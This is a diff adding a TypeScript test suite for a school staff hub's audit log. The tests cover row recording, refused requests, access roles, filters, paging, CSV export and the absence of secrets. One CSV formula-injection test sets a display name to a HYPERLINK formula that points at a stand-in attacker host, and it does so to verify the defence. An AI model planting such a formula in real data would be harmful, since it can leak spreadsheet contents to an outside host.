@@ -1,0 +1,357 @@
+// The audit log as the safeguarding lead and ICT read it: one row per change, naming who made it
+// and the request that did, none for a refused request, filters, pages, the CSV export, and no
+// secrets anywhere in it.
+import { createHash } from 'node:crypto';
+import type { Response } from 'supertest';
+import { ADMIN_PASSWORD, createStaff, startHub, TestHub } from './support/hub';
+
+interface AuditRow {
+  id: number;
+  at: string;
+  actorType: string;
+  actorId: string | null;
+  actor: string | null;
+  action: string;
+  targetType: string | null;
+  targetId: string | null;
+  detail: Record<string, unknown> | null;
+  correlationId: string | null;
+}
+
+const CSV_HEADER = 'id,at,actorType,actorId,actor,action,targetType,targetId,detail,correlationId';
+
+/** RFC 4180 rows: quoted cells may hold commas, doubled quotes and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') {
+        quoted = false;
+      } else {
+        cell += c;
+      }
+    } else if (c === '"') {
+      quoted = true;
+    } else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\n' || c === '\r') {
+      if (c === '\r' && text[i + 1] === '\n') {
+        i++;
+      }
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else {
+      cell += c;
+    }
+  }
+  if (cell !== '' || row.length > 0) {
+    row.push(cell);
+    rows.push(row);
+  }
+  return rows;
+}
+
+describe('the audit log', () => {
+  let hub: TestHub;
+  let admin: string;
+  let adminId: string;
+  let safeguarding: { id: string; token: string };
+  let teacher: { id: string; token: string };
+  /** Every password and token this suite uses, to look for in the log afterwards. */
+  const secrets: string[] = [ADMIN_PASSWORD];
+
+  const as = (token: string) => `Bearer ${token}`;
+  const requestId = (response: Response) => response.headers['x-request-id'] as string;
+
+  async function audit(query: Record<string, string | number> = {}, token = admin) {
+    const response = await hub.http.get('/api/audit').query(query).set('Authorization', as(token));
+    expect(response.status).toBe(200);
+    return response.body as { items: AuditRow[]; total: number; page: number; pageSize: number };
+  }
+
+  /** The rows written by one request, found by its correlation id. */
+  async function rowsOf(response: Response): Promise<AuditRow[]> {
+    const id = requestId(response);
+    expect(id).toMatch(/^[A-Za-z0-9._-]{8,64}$/);
+    const { items } = await audit({ pageSize: 500 });
+    return items.filter((row) => row.correlationId === id);
+  }
+
+  beforeAll(async () => {
+    hub = await startHub();
+    admin = await hub.login();
+    secrets.push(admin);
+    adminId = (await hub.http.get('/api/auth/me').set('Authorization', as(admin))).body.id;
+    safeguarding = await createStaff(hub, admin, 'sally', ['safeguarding']);
+    teacher = await createStaff(hub, admin, 'tariq', ['teacher']);
+    secrets.push('Staff-Pass1!', safeguarding.token, teacher.token);
+  });
+  afterAll(() => hub.close());
+
+  describe('one row per change, naming who made it and the request that did', () => {
+    it('records creating an account', async () => {
+      const created = await hub.http
+        .post('/api/staff')
+        .set('Authorization', as(admin))
+        .send({ username: 'fran', displayName: 'Fran', password: 'Fran-Pass1!', roles: ['office'] });
+      secrets.push('Fran-Pass1!');
+
+      expect(await rowsOf(created)).toEqual([
+        {
+          id: expect.any(Number),
+          at: expect.any(String),
+          actorType: 'staff',
+          actorId: adminId,
+          actor: 'admin',
+          action: 'staff.created',
+          targetType: 'staff',
+          targetId: created.body.id,
+          detail: { username: 'fran', roles: ['office'] },
+          correlationId: requestId(created),
+        },
+      ]);
+    });
+
+    it('uses a well-formed X-Request-Id sent by the caller as the correlation id', async () => {
+      const created = await hub.http
+        .post('/api/staff')
+        .set('Authorization', as(admin))
+        .set('X-Request-Id', 'console-req-0001')
+        .send({ username: 'gil', displayName: 'Gil', password: 'Gil-Pass1!', roles: ['office'] });
+      secrets.push('Gil-Pass1!');
+
+      expect(requestId(created)).toBe('console-req-0001');
+      expect((await rowsOf(created)).map((row) => row.action)).toEqual(['staff.created']);
+    });
+
+    it('records changing, resetting the password of and disabling an account', async () => {
+      const person = await createStaff(hub, admin, 'hal', ['teacher']);
+      secrets.push(person.token);
+      const patch = (body: object) =>
+        hub.http.patch(`/api/staff/${person.id}`).set('Authorization', as(admin)).send(body);
+
+      const renamed = await patch({ displayName: 'Hal H.' });
+      const reset = await patch({ password: 'Hal-Reset9#' });
+      secrets.push('Hal-Reset9#');
+      const disabled = await patch({ disabled: true });
+
+      expect(await rowsOf(renamed)).toEqual([
+        expect.objectContaining({
+          actor: 'admin',
+          action: 'staff.updated',
+          targetId: person.id,
+          detail: { changed: ['displayName'], roles: ['teacher'], disabled: false },
+        }),
+      ]);
+      expect(await rowsOf(reset)).toEqual([
+        expect.objectContaining({
+          actor: 'admin',
+          action: 'staff.updated',
+          targetId: person.id,
+          detail: { changed: ['password'], roles: ['teacher'], disabled: false },
+        }),
+      ]);
+      expect(await rowsOf(disabled)).toEqual([
+        expect.objectContaining({ actor: 'admin', action: 'staff.disabled', targetId: person.id }),
+      ]);
+    });
+
+    it('records signing in and out and changing one’s own password, as that person', async () => {
+      const signIn = await hub.http.post('/api/auth/login').send({ username: 'tariq', password: 'Staff-Pass1!' });
+      const token = signIn.body.accessToken as string;
+      secrets.push(token);
+      const changed = await hub.http
+        .patch('/api/staff/me/password')
+        .set('Authorization', as(token))
+        .send({ currentPassword: 'Staff-Pass1!', newPassword: 'Tariq-New7%' });
+      secrets.push('Tariq-New7%');
+      const signOut = await hub.http.post('/api/auth/logout').set('Authorization', as(token));
+
+      const expected = (action: string) =>
+        expect.objectContaining({ actorId: teacher.id, actor: 'tariq', action, targetId: teacher.id });
+      expect(await rowsOf(signIn)).toEqual([expected('staff.signed_in')]);
+      expect(await rowsOf(changed)).toEqual([expected('staff.password_changed')]);
+      expect(await rowsOf(signOut)).toEqual([expected('staff.signed_out')]);
+    });
+
+    it('records publishing and accepting the AUP', async () => {
+      const text = 'The audit test AUP: use the devices for school work.';
+      const version = createHash('sha256').update(text).digest('hex');
+      const published = await hub.http.put('/api/aup').set('Authorization', as(admin)).send({ text });
+      const accepted = await hub.http
+        .post('/api/staff/me/aup-acceptance')
+        .set('Authorization', as(safeguarding.token))
+        .send({ version });
+
+      expect(await rowsOf(published)).toEqual([
+        expect.objectContaining({ actor: 'admin', action: 'aup.published', targetType: 'aup', targetId: version }),
+      ]);
+      expect(await rowsOf(accepted)).toEqual([
+        expect.objectContaining({
+          actorId: safeguarding.id,
+          actor: 'sally',
+          action: 'aup.accepted',
+          targetType: 'aup',
+          targetId: version,
+        }),
+      ]);
+    });
+  });
+
+  it('writes nothing for a refused request', async () => {
+    const before = await audit();
+
+    const forbidden = await hub.http
+      .post('/api/staff')
+      .set('Authorization', as(safeguarding.token))
+      .send({ username: 'ivy', displayName: 'Ivy', password: 'Ivy-Pass1!', roles: ['ict'] });
+    const unsigned = await hub.http.put('/api/aup').send({ text: 'Nobody signed in wrote this policy text.' });
+    const invalid = await hub.http
+      .post('/api/staff')
+      .set('Authorization', as(admin))
+      .send({ username: 'ivy', displayName: 'Ivy', password: 'weak', roles: ['ict'] });
+    const duplicate = await hub.http
+      .post('/api/staff')
+      .set('Authorization', as(admin))
+      .send({ username: 'fran', displayName: 'Fran 2', password: 'Fran-Pass1!', roles: ['ict'] });
+    const wrongPassword = await hub.http.post('/api/auth/login').send({ username: 'admin', password: 'Nope-Nope1!' });
+
+    expect([forbidden.status, unsigned.status, invalid.status, duplicate.status, wrongPassword.status]).toEqual([
+      403, 401, 400, 409, 401,
+    ]);
+    const after = await audit();
+    expect(after.total).toBe(before.total);
+    expect(after.items).toEqual(before.items);
+  });
+
+  describe('reading it', () => {
+    it('is for safeguarding and ICT only', async () => {
+      expect((await hub.http.get('/api/audit').set('Authorization', as(safeguarding.token))).status).toBe(200);
+      const office = await createStaff(hub, admin, 'otto', ['office', 'teacher', 'trip_leader']);
+      secrets.push(office.token);
+      expect((await hub.http.get('/api/audit').set('Authorization', as(office.token))).status).toBe(403);
+      expect((await hub.http.get('/api/audit/export.csv').set('Authorization', as(office.token))).status).toBe(403);
+      expect((await hub.http.get('/api/audit')).status).toBe(401);
+      expect((await hub.http.get('/api/audit/export.csv')).status).toBe(401);
+    });
+
+    it('filters by action, or by an action prefix ending in a dot', async () => {
+      const created = await audit({ action: 'staff.created' });
+      expect(created.total).toBeGreaterThanOrEqual(5);
+      expect(new Set(created.items.map((row) => row.action))).toEqual(new Set(['staff.created']));
+
+      const aup = await audit({ action: 'aup.' });
+      expect(new Set(aup.items.map((row) => row.action))).toEqual(new Set(['aup.published', 'aup.accepted']));
+    });
+
+    it('filters by actor, by username or by id', async () => {
+      const byName = await audit({ actor: 'tariq' });
+      const byId = await audit({ actor: teacher.id });
+
+      expect(byName.total).toBeGreaterThanOrEqual(3);
+      expect(byName.items.every((row) => row.actorId === teacher.id)).toBe(true);
+      expect(byId.items).toEqual(byName.items);
+    });
+
+    it('filters by time, from inclusive and to exclusive', async () => {
+      hub.clock.advance(60 * 60 * 1000);
+      const boundary = hub.clock.now().toISOString();
+      hub.clock.advance(1);
+      const later = await hub.http
+        .patch(`/api/staff/${teacher.id}`)
+        .set('Authorization', as(admin))
+        .send({ displayName: 'Tariq T.' });
+      expect(later.status).toBe(200);
+
+      const fromBoundary = await audit({ from: boundary });
+      const toBoundary = await audit({ to: boundary, pageSize: 500 });
+
+      expect(fromBoundary.items.map((row) => row.correlationId)).toEqual([requestId(later)]);
+      expect(toBoundary.items.some((row) => row.correlationId === requestId(later))).toBe(false);
+      expect(toBoundary.total + fromBoundary.total).toBe((await audit()).total);
+    });
+
+    it('pages newest first', async () => {
+      const all = await audit({ pageSize: 500 });
+      const first = await audit({ pageSize: 3, page: 1 });
+      const second = await audit({ pageSize: 3, page: 2 });
+
+      expect(all.items.map((row) => row.id)).toEqual([...all.items.map((row) => row.id)].sort((a, b) => b - a));
+      expect(first).toMatchObject({ total: all.total, page: 1, pageSize: 3 });
+      expect([...first.items, ...second.items]).toEqual(all.items.slice(0, 6));
+      expect((await audit({ pageSize: 3, page: 1000 })).items).toEqual([]);
+    });
+
+    it('refuses a bad filter or page size, naming it', async () => {
+      const bad = async (query: Record<string, string>) => {
+        const response = await hub.http.get('/api/audit').query(query).set('Authorization', as(admin));
+        return [response.status, response.body.message as string] as const;
+      };
+      const [pageStatus, pageMessage] = await bad({ pageSize: '501' });
+      const [fromStatus, fromMessage] = await bad({ from: 'last tuesday' });
+      const [extraStatus, extraMessage] = await bad({ sort: 'asc' });
+
+      expect([pageStatus, fromStatus, extraStatus]).toEqual([400, 400, 400]);
+      expect(pageMessage).toContain('pageSize');
+      expect(fromMessage).toContain('from');
+      expect(extraMessage).toContain('sort');
+    });
+  });
+
+  describe('the CSV export', () => {
+    it('has a header row and one row per entry, newest first, with the same filters', async () => {
+      const response = await hub.http
+        .get('/api/audit/export.csv')
+        .query({ action: 'staff.created' })
+        .set('Authorization', as(safeguarding.token));
+
+      expect(response.status).toBe(200);
+      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
+      expect(response.headers['content-disposition']).toContain('attachment');
+      const rows = parseCsv(response.text);
+      expect(rows[0].join(',')).toBe(CSV_HEADER);
+      const { items } = await audit({ action: 'staff.created', pageSize: 500 });
+      expect(rows.slice(1).map((row) => Number(row[0]))).toEqual(items.map((row) => row.id));
+      const fran = rows.find((row) => row[7] === items.find((i) => i.detail?.username === 'fran')?.targetId);
+      expect(fran?.slice(4, 6)).toEqual(['admin', 'staff.created']);
+      expect(JSON.parse(fran?.[8] ?? '')).toEqual({ username: 'fran', roles: ['office'] });
+    });
+
+    it('never starts a cell with a spreadsheet formula, even for a name that is one', async () => {
+      const person = await createStaff(hub, admin, 'eve', ['teacher']);
+      secrets.push(person.token);
+      const renamed = await hub.http
+        .patch(`/api/staff/${person.id}`)
+        .set('Authorization', as(admin))
+        .send({ displayName: '=HYPERLINK("http://evil.example/?"&A1,"Click")' });
+      expect(renamed.status).toBe(200);
+
+      const response = await hub.http.get('/api/audit/export.csv').set('Authorization', as(admin));
+      const cells = parseCsv(response.text).flat();
+      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    });
+  });
+
+  it('holds no password or token, in the API or the CSV', async () => {
+    const json = JSON.stringify((await audit({ pageSize: 500 })).items);
+    const csv = (await hub.http.get('/api/audit/export.csv').set('Authorization', as(admin))).text;
+    const tokenHashes = secrets.map((secret) => createHash('sha256').update(secret).digest('hex'));
+
+    expect(secrets.length).toBeGreaterThan(10);
+    for (const secret of [...secrets, ...tokenHashes]) {
+      expect(json).not.toContain(secret);
+      expect(csv).not.toContain(secret);
+    }
+    expect(csv).not.toMatch(/argon2/);
+  });
+});
